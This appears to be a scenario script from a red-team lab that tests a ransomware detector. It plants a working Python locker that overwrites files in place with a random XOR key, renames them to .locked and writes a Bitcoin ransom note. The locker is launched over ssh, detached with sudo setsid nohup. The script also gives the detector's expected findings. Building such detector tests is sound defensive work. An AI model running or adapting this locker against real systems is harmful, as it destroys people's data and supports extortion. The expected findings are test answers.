# An interpreter locker detached from the ssh session that started it: erin (ssh, one command) runs
# `sudo setsid nohup python3 l.py DIR`; the script walks the upload tree, opens each file r+b, overwrites it in
# place, renames it to .locked and writes README_LOCKED.html per directory. The root is python3 running as root
# (setsid exec'd through sudo and nohup), the login user erin.
HOST=web07.corp.example
SUMMARY="Attack (interpreter locker, detached): erin runs one ssh command, sudo setsid nohup python3 /opt/rt-lab/x/l.py /srv/rt-lab/var/www/shop/uploads; the script overwrites 40 files in 5 directories in place (open r+b), renames each to .locked and writes README_LOCKED.html per directory. Host rule set."
UP=/srv/rt-lab/var/www/shop/uploads
LX=/opt/rt-lab/x/l.py
targets() { find "$UP" -type f | sort; }
scenario_prepare() {
    local d i
    for d in avatars invoices returns catalog exports; do
        install -d -o carol -g carol "$UP/$d"
        for i in $(seq 1 8); do head -c $((4000 + i * 900)) /dev/urandom > "$UP/$d/$d-$i.jpg"; done
    done
    chown -R carol:carol "$UP"
    install -d -m 755 /opt/rt-lab/x
    cat > "$LX" <<'PY'
import os, sys
KEY = os.urandom(32)
NOTE = "<html><body><h1>Your files are locked</h1><p>Send 0.1 BTC to decrypt your files. Contact: tor.</p></body></html>"
for root, dirs, files in os.walk(sys.argv[1]):
    dirs.sort()
    for name in sorted(files):
        path = os.path.join(root, name)
        with open(path, "r+b") as f:
            data = f.read()
            f.seek(0)
            f.write(bytes(b ^ KEY[i % len(KEY)] for i, b in enumerate(data)))
        os.rename(path, path + ".locked")
    if files:
        with open(os.path.join(root, "README_LOCKED.html"), "w") as n:
            n.write(NOTE)
PY
    chmod 644 "$LX"
    targets > "$RT_OPT.targets"; N_FILES=$(wc -l < "$RT_OPT.targets"); N_DIRS=$(rt_count_dirs < "$RT_OPT.targets")
}
scenario_run() {
    rt_attack as_ssh erin "sudo setsid nohup python3 $LX $UP > /dev/null 2>&1; while [ \$(find $UP -name '*.locked' | wc -l) -lt $N_FILES ] || [ \$(find $UP -name README_LOCKED.html | wc -l) -lt $N_DIRS ]; do sleep 0.3; done; sleep 1"
}
scenario_verify() {
    rt_check encrypted "$(find "$UP" -name '*.locked' | wc -l)" "$N_FILES" &&
    rt_check notes "$(find "$UP" -name README_LOCKED.html | wc -l)" "$N_DIRS"
}
scenario_truth() {
    cat <<Y
split: tuned      # recorded for the follow-ups of issue 16; the detector was then fixed against it (script in-place rewrites as an early fact, notes named after the new suffix, root of a setsid-detached interpreter)
expected:
  - rootExe: /usr/bin/python3.11
    rootCommandContains: "l.py"
    loginUser: erin
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: in-place
    newExtension: .locked
    notes: { name: README_LOCKED.html, directories: $N_DIRS }
    tools: []
    targetRoots: [$UP]
Y
}
scenario_cleanup() { rm -rf /opt/rt-lab/x "$RT_OPT.targets"; }
